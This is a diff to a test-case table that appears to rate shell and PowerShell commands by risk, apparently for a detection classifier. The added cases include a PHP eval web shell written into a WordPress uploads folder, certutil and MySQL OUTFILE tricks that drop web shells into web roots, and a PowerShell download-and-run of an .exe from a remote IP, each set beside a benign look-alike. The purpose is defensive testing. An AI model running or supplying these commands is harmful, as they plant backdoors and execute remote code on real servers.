@@ -102,6 +102,20 @@ CASES = [
     ("New-InboxRule -Mailbox ceo@corp.example -Name s -MoveToFolder Archive", "powershell", M),
     ("Get-MgDirectoryRoleMember -DirectoryRoleId 62e90394", "powershell", S),
     ('wmic /namespace:\\\\root\\default path SystemRestore call Disable "C:\\"', "cmd", B),
+    # web shells, files written by decoders/SQL, WebClient downloads that are run
+    ("echo '<?php @eval($_POST[x]);?>' > /var/www/html/wp-content/uploads/c.php", "bash", C),
+    ("certutil -decode s.txt C:\\inetpub\\wwwroot\\aspnet_client\\s.aspx", "cmd", C),
+    ("certutil -decode cert.b64 cert.cer", "cmd", M),
+    ("cp build/index.php /var/www/html/index.php", "bash", M),
+    ("mysql -e \"SELECT 1 INTO OUTFILE '/var/www/x/uploads/i.php'\"", "bash", C),
+    ("mysql -e \"SELECT * FROM t INTO OUTFILE '/tmp/t.csv'\"", "bash", M),
+    ("New-MailboxExportRequest -Mailbox a -FilePath \\\\nas\\pst\\a.pst", "powershell", M),
+    (
+        "(New-Object Net.WebClient).DownloadFile('http://198.51.100.7/a.exe','C:\\P\\a.exe');"
+        " & C:\\P\\a.exe",
+        "powershell",
+        C,
+    ),
     # over-rating fixed on the way
     ('net group "Domain admins" /dom', "cmd", S),
     ("xattr -p com.apple.quarantine ~/Downloads/Installer.dmg", "bash", S),
